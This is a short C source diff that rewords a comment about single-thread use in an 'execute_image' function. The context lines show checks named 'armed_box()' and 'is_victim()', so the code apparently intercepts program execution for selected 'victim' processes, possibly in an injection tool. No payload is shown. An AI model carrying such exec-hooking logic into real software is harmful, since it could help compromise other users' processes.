@@ -64,7 +64,7 @@ static __attribute__((noinline)) int execute_carrying(const struct image *image,
     return -1;
 }
 
-/* Two at a time are one too many: whoever comes second does without. */
+/* Only one thread at a time can use this; a second one goes on without it. */
 static int execute_image(const struct image *image, char *const *arguments, char *const *environment) {
     if (!armed_box() || !is_victim()) return execute(image, arguments, environment);
     if (__atomic_exchange_n(&is_executing, 1, __ATOMIC_ACQUIRE)) {
